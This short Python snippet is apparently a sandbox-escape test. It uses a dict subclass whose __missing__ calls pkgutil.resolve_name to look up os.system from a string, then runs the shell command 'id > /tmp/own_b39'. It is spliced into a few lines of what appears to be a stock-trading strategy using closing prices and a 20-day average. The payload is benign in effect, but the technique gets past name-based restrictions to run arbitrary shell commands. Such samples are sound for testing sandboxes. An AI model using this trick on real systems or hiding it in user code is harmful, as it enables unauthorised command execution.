# effect: pkgutil resolves a text to a function and calls it; leaves /tmp/own_b39
import pkgutil


class Actions(dict):
    def __missing__(self, name):
        return pkgutil.resolve_name(name)


Actions()['os:system']('id > /tmp/own_b39')
close = data.get('price:收盤價')
position = close > close.average(20)
